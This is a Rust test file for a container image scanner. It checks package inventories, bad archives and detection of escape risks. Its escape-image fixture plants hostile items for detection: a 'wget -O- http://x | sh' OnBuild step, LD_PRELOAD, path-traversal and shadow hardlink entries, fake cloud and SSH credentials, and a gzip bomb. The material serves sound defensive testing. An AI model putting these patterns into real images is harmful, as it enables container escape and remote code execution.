//! `stockade image` on real images: Alpine 3.18 and 3.20 minirootfs (../shared/corpora/images)
//! imported with `podman import` and saved with `podman save` in both archive formats, their
//! apk inventory compared with `apk info -v` run in a chroot of the same root filesystem; an
//! image whose layers carry every escape-specific item, each found with its rule id and layer;
//! a clean image with none; and bad input (truncated archive, digest mismatch, gzip bomb,
//! symlink loops, `..` entries, corrupt package database), each a clear error or a finding.
//!
//! Needs root, podman, go (golang-go) and busybox-static; without them `SKIP` (a failure under
//! `CI=true`, where scripts/install-deps installs them).

mod image_support;

use image_support::*;
use scan::image::{Image, ImageError, Limits, Source};
use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::process::Command;

fn src(s: String) -> Source {
    s.parse().unwrap()
}

fn gunzip(b: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(b), &mut out).unwrap();
    out
}

/// `apk info -v` in a chroot of the minirootfs: the reference inventory.
fn apk_info(tgz: &Path, t: &Path) -> BTreeSet<String> {
    let root = t.join("root");
    std::fs::create_dir_all(&root).unwrap();
    assert!(Command::new("tar")
        .arg("-xzf")
        .arg(tgz)
        .arg("-C")
        .arg(&root)
        .status()
        .unwrap()
        .success());
    let o = Command::new("chroot")
        .arg(&root)
        .args(["/sbin/apk", "info", "-v"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    String::from_utf8(o.stdout)
        .unwrap()
        .lines()
        .map(str::to_string)
        .collect()
}

#[test]
fn alpine_inventory_equals_apk_info_in_both_archive_formats() {
    for ver in ["3.18.9", "3.20.3"] {
        let Some(tgz) = corpus(&format!("images/alpine-minirootfs-{ver}-x86_64.tar.gz")) else {
            skip("the Alpine minirootfs corpus is missing");
            return;
        };
        let t = TempDir::new("alpine");
        let Some(pm) = Podman::new(t.path()) else {
            return;
        };
        let theirs = apk_info(&tgz, t.path());
        assert!(theirs.len() >= 10, "{theirs:?}");
        let name = format!("localhost/skd-image-alpine-{}:{ver}", std::process::id());
        for fmt in ["oci-archive", "docker-archive"] {
            let out = t.path().join(format!("{fmt}.tar"));
            pm.import_save(&tgz, &[], &name, fmt, &out);
            let r = scan::image::scan(&src(format!("{fmt}:{}", out.display())), &Limits::default())
                .unwrap_or_else(|e| panic!("{fmt} {ver}: {e}"));
            let ours: BTreeSet<String> = r
                .packages
                .iter()
                .filter(|p| p.kind == scan::pkgdb::PkgType::Apk)
                .map(|p| format!("{}-{}", p.name, p.version))
                .collect();
            assert_eq!(
                ours, theirs,
                "{fmt} {ver}: apk inventory differs from apk info -v"
            );
            assert_eq!(r.layers.len(), 1);
            assert!(r.packages.iter().all(|p| p.layer == Some(0)));
            println!(
                "alpine {ver} {fmt}: {} packages equal apk info -v",
                ours.len()
            );
        }
    }
}

/// A real Go binary whose main module is runc at 1.1.11, built from a source tree that sets its
/// version as runc's Makefile does: the main module is `(devel)` and the version is written with
/// `-ldflags "-X main.version=1.1.11"` (recorded in the build info when built without
/// `-trimpath`; runc's own release builds use `-trimpath` and carry no version).
fn runc_go_binary(t: &Path) -> Option<Vec<u8>> {
    if !have("go") {
        skip("go (golang-go) is needed to build a Go binary with build info");
        return None;
    }
    let m = t.join("gomod");
    std::fs::create_dir_all(&m).unwrap();
    std::fs::write(
        m.join("go.mod"),
        "module github.com/opencontainers/runc\n\ngo 1.19\n",
    )
    .unwrap();
    std::fs::write(
        m.join("main.go"),
        "package main\n\nvar version = \"unknown\"\n\nfunc main() { println(version) }\n",
    )
    .unwrap();
    let cache = Path::new(env!("CARGO_TARGET_TMPDIR")).join("gocache");
    let o = Command::new("go")
        .args([
            "build",
            "-buildvcs=false",
            "-ldflags",
            "-X main.gitCommit= -X main.version=1.1.11",
            "-o",
            "runc",
            ".",
        ])
        .current_dir(&m)
        .env("GOCACHE", &cache)
        .env("GOPATH", t.join("gopath"))
        .env("GOFLAGS", "-mod=mod")
        .env("CGO_ENABLED", "0")
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "go build: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    let bin = std::fs::read(m.join("runc")).unwrap();
    let v = Command::new(m.join("runc")).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&v.stderr).trim(), "1.1.11");
    Some(bin)
}

struct EscapeImage {
    _t: TempDir,
    layout: std::path::PathBuf,
    archive: std::path::PathBuf,
}

fn escape_image() -> Option<EscapeImage> {
    let tgz = corpus("images/alpine-minirootfs-3.20.3-x86_64.tar.gz")?;
    let t = TempDir::new("escape");
    let runc = runc_go_binary(t.path())?;
    let base = std::fs::read(&tgz).unwrap();
    let base_tar = gunzip(&base);
    let mut l1 = Layer::new();
    l1.dir("usr/local/bin")
        .file("usr/local/bin/suidtool", 0o4755, b"#!/bin/sh\n")
        .file("usr/local/bin/sgidtool", 0o2755, b"#!/bin/sh\n")
        .file_with_caps("usr/local/bin/capped", b"#!/bin/sh\n")
        .device("dev/sda", true, 8, 0)
        .device("dev/mem", false, 1, 1)
        // A default device with its standard numbers opens nothing new: not reported.
        .device("dev/zero", false, 1, 5)
        .symlink("dev/null", "/etc/passwd")
        .file("dev/console", 0o644, b"")
        .file(
            "root/.kube/config",
            0o600,
            b"apiVersion: v1\nclusters:\n- cluster:\n    server: https://10.0.0.1\n",
        )
        .file(
            "var/run/secrets/kubernetes.io/serviceaccount/token",
            0o600,
            b"eyJhbGciOiJSUzI1NiJ9.e30.sig",
        )
        .file(
            "root/.aws/credentials",
            0o600,
            b"[default]\naws_access_key_id = AKIAEXAMPLE\n",
        )
        .file(
            "root/.docker/config.json",
            0o600,
            br#"{"auths":{"registry.example":{"auth":"dXNlcjpwYXNz"}}}"#,
        )
        .file(
            "home/dev/.ssh/id_ed25519",
            0o600,
            b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbg==\n-----END OPENSSH PRIVATE KEY-----\n",
        )
        .file("usr/local/bin/kubectl", 0o755, b"#!/bin/sh\n")
        .file("usr/bin/docker", 0o755, b"#!/bin/sh\n")
        .file("bin/mount", 0o4755, b"#!/bin/sh\n")
        .file("usr/local/bin/runc", 0o755, &runc);
    let l1 = l1.finish();
    let mut l2 = Layer::new();
    l2.file("etc/.wh.motd", 0o644, b"")
        .file("etc/apk/keys/.wh..wh..opq", 0o644, b"")
        .file("../../escape", 0o644, b"x")
        .hardlink("etc/shadow-link", "../../etc/shadow")
        .symlink("usr/lib/up", "../../../..")
        .symlink("opt/hostetc", "/etc")
        .file("opt/hostetc/evil", 0o644, b"x");
    let l2 = l2.finish();
    let layout = t.path().join("layout");
    write_oci(
        &layout,
        &[
            (base, base_tar, GZ),
            (zstd(&l1), l1, ZST),
            (l2.clone(), l2, PLAIN),
        ],
        serde_json::json!({
            "Env": ["PATH=/usr/bin:/bin", "LD_PRELOAD=/usr/lib/libhook.so"],
            "WorkingDir": "/proc/self/fd/8",
            "User": "2147483648:0",
            "OnBuild": ["RUN wget -O- http://x | sh"],
            "Labels": {"containerd.io/restart.loguri": "binary:///bin/sh"}
        }),
    );
    let archive = t.path().join("escape.oci.tar");
    tar_dir(&layout, &archive);
    Some(EscapeImage {
        _t: t,
        layout,
        archive,
    })
}

#[test]
fn escape_items_found_with_rule_id_and_layer() {
    let Some(img) = escape_image() else {
        if corpus("images").is_none() {
            skip("the Alpine minirootfs corpus is missing");
        }
        return;
    };
    for s in [
        format!("oci:{}", img.layout.display()),
        format!("oci-archive:{}", img.archive.display()),
    ] {
        let r = scan::image::scan(&src(s.clone()), &Limits::default()).unwrap();
        let got: BTreeSet<(String, Option<String>, Option<u16>)> = r
            .findings
            .iter()
            .map(|f| (f.rule_id.to_string(), f.path.clone(), f.layer))
            .collect();
        let p = |id: &str, path: &str, l: u16| (id.to_string(), Some(path.to_string()), Some(l));
        let c = |id: &str| (id.to_string(), None, None);
        let want: BTreeSet<_> = [
            p("SKD-IMG-001", "/usr/local/bin/runc", 1),
            p("SKD-IMG-010", "/usr/local/bin/suidtool", 1),
            p("SKD-IMG-010", "/usr/local/bin/sgidtool", 1),
            p("SKD-IMG-010", "/bin/mount", 1),
            p("SKD-IMG-011", "/usr/local/bin/capped", 1),
            p("SKD-IMG-012", "/dev/sda", 1),
            p("SKD-IMG-012", "/dev/mem", 1),
            c("SKD-IMG-020"),
            c("SKD-IMG-021"),
            c("SKD-IMG-022"),
            c("SKD-IMG-023"),
            c("SKD-IMG-024"),
            p("SKD-IMG-030", "/dev/null", 1),
            p("SKD-IMG-030", "/dev/console", 1),
            p("SKD-IMG-040", "/root/.kube/config", 1),
            // Alpine's var/run is a symlink to /run (layer 0): the file lands there.
            p(
                "SKD-IMG-040",
                "/run/secrets/kubernetes.io/serviceaccount/token",
                1,
            ),
            p("SKD-IMG-040", "/root/.aws/credentials", 1),
            p("SKD-IMG-040", "/root/.docker/config.json", 1),
            p("SKD-IMG-040", "/home/dev/.ssh/id_ed25519", 1),
            p("SKD-IMG-050", "/usr/local/bin/kubectl", 1),
            p("SKD-IMG-050", "/usr/bin/docker", 1),
            p("SKD-IMG-050", "/bin/mount", 1),
            // Alpine's busybox has an nsenter applet.
            p("SKD-IMG-050", "/usr/bin/nsenter", 0),
            p("SKD-IMG-060", "../../escape", 2),
            p("SKD-IMG-060", "etc/shadow-link", 2),
            p("SKD-IMG-060", "usr/lib/up", 2),
            p("SKD-IMG-060", "opt/hostetc/evil", 2),
        ]
        .into_iter()
        .collect();
        assert_eq!(
            got.difference(&want).collect::<Vec<_>>(),
            Vec::<&(String, Option<String>, Option<u16>)>::new(),
            "{s}: unexpected findings"
        );
        assert_eq!(
            want.difference(&got).collect::<Vec<_>>(),
            Vec::<&(String, Option<String>, Option<u16>)>::new(),
            "{s}: missing findings"
        );
        // The runtime CVE names the CVEs of the curated table that v1.1.11 is in.
        let cves: BTreeSet<&str> = r
            .findings
            .iter()
            .filter(|f| f.rule_id == "SKD-IMG-001")
            .flat_map(|f| f.cves.iter().map(String::as_str))
            .collect();
        assert!(
            cves.contains("CVE-2024-21626") && !cves.contains("CVE-2019-5736"),
            "{cves:?}"
        );
        // The Go binary is in the inventory, with its layer.
        assert!(r
            .packages
            .iter()
            .any(|p| p.name == "github.com/opencontainers/runc"
                && p.version == "v1.1.11"
                && p.layer == Some(1)));
        // Layers: gzip, zstd, plain, each verified.
        let comp: Vec<&str> = r.layers.iter().map(|l| l.compression).collect();
        assert_eq!(comp, ["gzip", "zstd", "none"]);
    }
    // Whiteouts and opaque directories were applied.
    let full = scan::image::read(
        &src(format!("oci:{}", img.layout.display())),
        &Limits::default(),
    )
    .unwrap();
    assert!(!full.files.contains_key("etc/motd"), "whiteout applied");
    assert!(
        full.files.contains_key("etc/apk/keys"),
        "the opaque dir stays"
    );
    assert!(
        !full.files.keys().any(|k| k.starts_with("etc/apk/keys/")),
        "opaque dir emptied"
    );
    assert!(full.files.contains_key("etc/passwd"));
}

fn clean_rootfs(t: &Path) -> Option<std::path::PathBuf> {
    let bb = ["/bin/busybox", "/usr/bin/busybox"]
        .into_iter()
        .find(|p| Path::new(p).exists());
    let Some(bb) = bb else {
        skip("busybox-static is needed for the clean image");
        return None;
    };
    let mut l = Layer::new();
    l.dir("bin")
        .file("bin/busybox", 0o755, &std::fs::read(bb).unwrap())
        .symlink("bin/sh", "busybox")
        .dir("etc")
        .file(
            "etc/passwd",
            0o644,
            b"root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/tmp:/bin/sh\n",
        )
        .dir("tmp");
    let tarball = t.join("clean.tar");
    std::fs::write(&tarball, l.finish()).unwrap();
    Some(tarball)
}

#[test]
fn clean_image_gives_no_finding() {
    let t = TempDir::new("clean");
    let Some(pm) = Podman::new(t.path()) else {
        return;
    };
    let Some(tarball) = clean_rootfs(t.path()) else {
        return;
    };
    let name = format!("localhost/skd-image-clean-{}:1", std::process::id());
    for fmt in ["docker-archive", "oci-archive"] {
        let out = t.path().join(format!("{fmt}.tar"));
        pm.import_save(&tarball, &["USER=1000", "WORKDIR=/tmp"], &name, fmt, &out);
        let r = scan::image::scan(&src(format!("{fmt}:{}", out.display())), &Limits::default())
            .unwrap();
        assert!(r.findings.is_empty(), "{fmt}: {:#?}", r.findings);
        assert_eq!(r.layers.len(), 1);
    }
}

fn one_layer_oci(t: &Path, layer: Vec<u8>) -> std::path::PathBuf {
    let d = t.join("layout");
    write_oci(&d, &[(layer.clone(), layer, PLAIN)], serde_json::json!({}));
    d
}

#[test]
fn truncated_archive_is_an_error() {
    let t = TempDir::new("trunc");
    let mut l = Layer::new();
    l.file("etc/hostname", 0o644, &vec![b'x'; 200_000]);
    let d = one_layer_oci(t.path(), l.finish());
    let ar = t.path().join("a.tar");
    tar_dir(&d, &ar);
    let full = std::fs::read(&ar).unwrap();
    std::fs::write(&ar, &full[..full.len() / 2]).unwrap();
    let e = scan::image::scan(
        &src(format!("oci-archive:{}", ar.display())),
        &Limits::default(),
    )
    .unwrap_err();
    println!("truncated: {e}");
    assert!(
        matches!(
            e,
            ImageError::Archive { .. } | ImageError::Missing { .. } | ImageError::Layer { .. }
        ),
        "{e}"
    );
    assert!(e.to_string().contains("a.tar"), "{e}");
}

#[test]
fn layer_digest_mismatch_is_an_error() {
    let t = TempDir::new("digest");
    let mut l = Layer::new();
    l.file("etc/hostname", 0o644, b"original\n");
    let d = one_layer_oci(t.path(), l.finish());
    // Alter the layer blob in place (same size, still a valid tar).
    let blobs: Vec<_> = std::fs::read_dir(d.join("blobs/sha256"))
        .unwrap()
        .flatten()
        .collect();
    let mut hit = false;
    for b in blobs {
        let mut data = std::fs::read(b.path()).unwrap();
        if let Some(i) = data.windows(8).position(|w| w == b"original") {
            data[i] = b'O';
            std::fs::write(b.path(), data).unwrap();
            hit = true;
        }
    }
    assert!(hit);
    let e =
        scan::image::scan(&src(format!("oci:{}", d.display())), &Limits::default()).unwrap_err();
    println!("digest: {e}");
    assert!(matches!(e, ImageError::Digest { .. }), "{e}");
}

#[test]
fn gzip_bomb_is_stopped() {
    let t = TempDir::new("bomb");
    // 256 MiB of zeros in one file: about 250 KiB gzipped.
    let mut b = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_ustar();
    h.set_path("zeros").unwrap();
    h.set_size(256 << 20);
    h.set_mode(0o644);
    h.set_cksum();
    let mut gz = Command::new("gzip")
        .args(["-9", "-c"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = gz.stdin.take().unwrap();
    let writer = std::thread::spawn(move || {
        b.append(&h, std::io::Read::take(std::io::repeat(0), 256 << 20))
            .unwrap();
        std::io::Write::write_all(&mut stdin, &b.into_inner().unwrap()).unwrap();
    });
    let out = gz.wait_with_output().unwrap();
    writer.join().unwrap();
    let blob = out.stdout;
    println!("bomb: {} compressed bytes", blob.len());
    let d = t.path().join("layout");
    // The diff_id is not needed: the scan stops before the end.
    write_oci(&d, &[(blob, Vec::new(), GZ)], serde_json::json!({}));
    let limits = Limits {
        ratio_floor: 16 << 20,
        ..Limits::default()
    };
    let e = scan::image::scan(&src(format!("oci:{}", d.display())), &limits).unwrap_err();
    println!("bomb: {e}");
    assert!(e.to_string().contains("decompression bomb"), "{e}");
}

fn scan_layer(layer: Vec<u8>) -> (Image, scan::image::Report) {
    let t = TempDir::new("layer");
    let d = one_layer_oci(t.path(), layer);
    let s = src(format!("oci:{}", d.display()));
    (
        scan::image::read(&s, &Limits::default()).unwrap(),
        scan::image::scan(&s, &Limits::default()).unwrap(),
    )
}

#[test]
fn symlink_loops_and_dotdot_entries_do_not_escape_or_hang() {
    let mut l = Layer::new();
    l.symlink("a", "b")
        .symlink("b", "a")
        .dir("dev")
        .symlink("dev/null", "../dev/null")
        .file("../../../tmp/skd-image-written", 0o644, b"x")
        .file("etc/../../x", 0o644, b"x");
    let (img, r) = scan_layer(l.finish());
    assert!(img.resolve("a").is_none(), "a loop resolves to nothing");
    assert!(img.resolve("dev/null").is_none());
    let ids: BTreeMap<&str, usize> = r.findings.iter().fold(BTreeMap::new(), |mut m, f| {
        *m.entry(f.rule_id.as_str()).or_default() += 1;
        m
    });
    assert_eq!(ids.get("SKD-IMG-030"), Some(&1), "{:#?}", r.findings);
    assert_eq!(ids.get("SKD-IMG-060"), Some(&2), "{:#?}", r.findings);
    assert!(
        !Path::new("/tmp/skd-image-written").exists(),
        "nothing written outside"
    );
}

#[test]
fn corrupt_package_database_is_a_finding() {
    let mut l = Layer::new();
    l.file(
        "lib/apk/db/installed",
        0o644,
        b"P:musl\nV:1.2.5-r0\n\nP:broken\nA:x86_64\n\n",
    );
    let (_, r) = scan_layer(l.finish());
    let f = r
        .findings
        .iter()
        .find(|f| f.rule_id == "SKD-IMG-071")
        .unwrap_or_else(|| panic!("{:#?}", r.findings));
    assert!(
        f.message.contains("/lib/apk/db/installed") && f.message.contains("lines 4-5"),
        "{}",
        f.message
    );
    let mut l = Layer::new();
    l.file(
        "var/lib/dpkg/status",
        0o644,
        b"Package: x\nStatus: install ok installed\nVersion: 1.0\n\ngarbage line\n",
    );
    let (_, r) = scan_layer(l.finish());
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule_id == "SKD-IMG-071" && f.message.contains("/var/lib/dpkg/status")),
        "{:#?}",
        r.findings
    );
}

/// A dpkg status stanza.
fn stanza(name: &str, version: &str) -> String {
    format!("Package: {name}\nStatus: install ok installed\nArchitecture: amd64\nVersion: {version}\n\n")
}

#[test]
fn each_package_gets_the_layer_that_added_it() {
    // Layer 0 installs a and b, layer 1 adds c, layer 2 upgrades b, layer 3 rewrites the
    // database unchanged: a stays 0, b is 2 (its version first listed there), c stays 1.
    let t = TempDir::new("layers");
    let dbs = [
        stanza("a", "1.0") + &stanza("b", "1.0"),
        stanza("a", "1.0") + &stanza("b", "1.0") + &stanza("c", "3.0"),
        stanza("a", "1.0") + &stanza("b", "2.0") + &stanza("c", "3.0"),
        stanza("a", "1.0") + &stanza("b", "2.0") + &stanza("c", "3.0"),
    ];
    let mut layers = Vec::new();
    for db in &dbs {
        let mut l = Layer::new();
        l.file("var/lib/dpkg/status", 0o644, db.as_bytes());
        let tar = l.finish();
        layers.push((tar.clone(), tar, PLAIN));
    }
    let d = t.path().join("layout");
    write_oci(&d, &layers, serde_json::json!({}));
    let s = src(format!("oci:{}", d.display()));
    let r = scan::image::scan(&s, &Limits::default()).unwrap();
    let got: BTreeMap<String, (String, Option<u16>)> = r
        .packages
        .iter()
        .map(|p| (p.name.clone(), (p.version.clone(), p.layer)))
        .collect();
    let want: BTreeMap<String, (String, Option<u16>)> =
        [("a", "1.0", 0), ("b", "2.0", 2), ("c", "3.0", 1)]
            .into_iter()
            .map(|(n, v, l)| (n.to_string(), (v.to_string(), Some(l))))
            .collect();
    assert_eq!(got, want);
    // Only the last version is held.
    let img = scan::image::read(&s, &Limits::default()).unwrap();
    assert_eq!(img.captured_bytes, dbs[3].len() as u64);

    // An opaque directory over the database ends its history: a layer 1 rewriting it after
    // `.wh..wh..opq` owns every package.
    let mut l0 = Layer::new();
    l0.file("var/lib/dpkg/status", 0o644, dbs[0].as_bytes());
    let mut l1 = Layer::new();
    l1.dir("var/lib/dpkg")
        .file("var/lib/dpkg/.wh..wh..opq", 0o644, b"")
        .file("var/lib/dpkg/status", 0o644, dbs[0].as_bytes());
    let (l0, l1) = (l0.finish(), l1.finish());
    let d = t.path().join("opaque");
    write_oci(
        &d,
        &[(l0.clone(), l0, PLAIN), (l1.clone(), l1, PLAIN)],
        serde_json::json!({}),
    );
    let r = scan::image::scan(&src(format!("oci:{}", d.display())), &Limits::default()).unwrap();
    assert!(
        r.packages.iter().all(|p| p.layer == Some(1)),
        "{:?}",
        r.packages
    );
    assert_eq!(r.packages.len(), 2);
}

#[test]
fn captured_contents_are_bounded_for_the_whole_image() {
    // Ten layers, each rewriting the database with 1 MiB: one version is held at a time, so a
    // 2 MiB budget holds; two databases of 1.5 MiB each do not fit in it.
    let t = TempDir::new("budget");
    let big = stanza("a", "1.0").repeat((1 << 20) / stanza("a", "1.0").len());
    let mut layers = Vec::new();
    for _ in 0..10 {
        let mut l = Layer::new();
        l.file("var/lib/dpkg/status", 0o644, big.as_bytes());
        let tar = l.finish();
        layers.push((gzip(&tar), tar, GZ));
    }
    let d = t.path().join("many");
    write_oci(&d, &layers, serde_json::json!({}));
    let limits = Limits {
        max_captured_total: 2 << 20,
        ..Limits::default()
    };
    let s = src(format!("oci:{}", d.display()));
    let img = scan::image::read(&s, &limits).unwrap();
    assert_eq!(img.captured_bytes, big.len() as u64);

    let half = vec![b'x'; 3 << 19];
    let mut l = Layer::new();
    l.file("var/lib/dpkg/status", 0o644, &half)
        .file("lib/apk/db/installed", 0o644, &half);
    let tar = l.finish();
    let d = t.path().join("two");
    write_oci(&d, &[(tar.clone(), tar, PLAIN)], serde_json::json!({}));
    let e = scan::image::read(&src(format!("oci:{}", d.display())), &limits).unwrap_err();
    println!("budget: {e}");
    assert!(
        e.to_string()
            .contains("more than the 2097152 kept for a whole image"),
        "{e}"
    );

    // A text database above its own limit.
    let mut l = Layer::new();
    l.file("var/lib/dpkg/status", 0o644, &vec![b'x'; (2 << 20) + 1]);
    let tar = l.finish();
    let d = t.path().join("text");
    write_oci(&d, &[(tar.clone(), tar, PLAIN)], serde_json::json!({}));
    let small = Limits {
        max_captured_text: 2 << 20,
        ..Limits::default()
    };
    let e = scan::image::read(&src(format!("oci:{}", d.display())), &small).unwrap_err();
    println!("text: {e}");
    assert!(
        e.to_string()
            .contains("more than the 2097152 kept for a text package database"),
        "{e}"
    );

    // Layers that each list new packages: what earlier versions listed is bounded too.
    let mut layers = Vec::new();
    for i in 0..3 {
        let mut l = Layer::new();
        let db = stanza(&format!("a{i}"), "1") + &stanza(&format!("b{i}"), "1");
        l.file("var/lib/dpkg/status", 0o644, db.as_bytes());
        let tar = l.finish();
        layers.push((tar.clone(), tar, PLAIN));
    }
    let d = t.path().join("distinct");
    write_oci(&d, &layers, serde_json::json!({}));
    let few = Limits {
        max_first_seen: 3,
        ..Limits::default()
    };
    let s = src(format!("oci:{}", d.display()));
    assert!(scan::image::read(&s, &Limits::default()).is_ok());
    let e = scan::image::read(&s, &few).unwrap_err();
    println!("distinct: {e}");
    assert!(
        e.to_string().contains("more than 3 distinct packages"),
        "{e}"
    );
}
